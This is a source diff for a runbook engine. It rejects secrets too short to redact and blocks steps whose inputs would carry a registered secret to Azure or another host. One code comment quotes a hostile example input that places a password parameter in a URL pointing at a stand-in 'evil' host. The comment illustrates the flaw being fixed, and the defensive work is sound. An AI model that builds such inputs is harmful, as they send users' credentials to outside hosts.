@@ -19,7 +19,7 @@ import {findAction as findRegisteredAction} from '../actions/registry.js'
 import {collectArmWrites, type ArmWrite, type NoWriteFinding} from '../azure/arm-writes.js'
 import type {Catalog, Environment} from '../catalog/schema.js'
 import {ApprovalRequiredError} from '../errors.js'
-import {Redactor, REDACTED} from '../evidence/redact.js'
+import {MIN_SECRET_LENGTH, Redactor, REDACTED} from '../evidence/redact.js'
 import {toIsoDuration} from '../support/duration.js'
 import type {ErrorInfo, RunEvent, RunStatus, StepPhase, StepStatus} from './events.js'
 import {evaluateCondition, evaluateValue, type ExpressionContext} from './expressions.js'
@@ -946,8 +946,24 @@ class RunExecution {
     const inputs = parsed.data as Record<string, unknown>
     for (const name of action.secretInputs ?? []) {
       const value = inputs[name]
-      if (typeof value === 'string') this.redactor.add(value)
+      if (typeof value !== 'string') continue
+      // Too short to redact (README, secrets): refused before the action sees it, rather than left showing.
+      if (value.length > 0 && value.length < MIN_SECRET_LENGTH)
+        throw new EngineStepError(`input ${name} of ${action.name} is a secret and must be at least ${MIN_SECRET_LENGTH} characters, so it can be kept out of output, journal and evidence`, 'invalid-inputs')
+      this.redactor.add(value)
     }
+    // A secret may reach only inputs that keep it here or that are meant for one (validate.ts, secret-sent-out): any
+    // other input goes to Azure or another host — `http.check url: https://evil/${{ params.pw }}` sent the secret out
+    // in the request line, redacted only in our own output (issue 16). Checked after evaluating, so a secret reaching
+    // the input some way validation cannot see (a called runbook's param, a group output, a param named *Password)
+    // is refused too, before the action runs and whatever the secret is.
+    const kept = new Set([...(action.secretInputs ?? []), ...(action.localInputs ?? [])])
+    for (const [name, value] of Object.entries(inputs))
+      if (!kept.has(name) && this.redactor.holdsRegisteredSecret(value))
+        throw new EngineStepError(
+          `input ${name} of ${action.name} holds a secret, and ${action.name} would send it out of this machine (to Azure or another host); a secret may only reach inputs meant for one${kept.size > 0 ? ` (${[...kept].join(', ')})` : ''}`,
+          'secret-sent-out',
+        )
     return inputs
   }
 
@@ -1018,7 +1034,12 @@ class RunExecution {
       environmentName: options.environmentName,
       environment: options.environment,
       catalog: options.catalog,
-      secret: (value) => this.redactor.add(value),
+      secret: (value) => {
+        // A secret too short to redact (a Key Vault password of 3 characters) is refused rather than left showing.
+        if (typeof value === 'string' && value.length > 0 && value.length < MIN_SECRET_LENGTH)
+          throw new EngineStepError(`${step.call.uses}: a secret it read is shorter than ${MIN_SECRET_LENGTH} characters, which opsbook cannot keep out of output, journal and evidence; lengthen it`, 'secret-too-short')
+        this.redactor.add(value)
+      },
       preview: (text, max) => this.redactor.redactText(text).slice(0, max),
       approver,
       operations: {
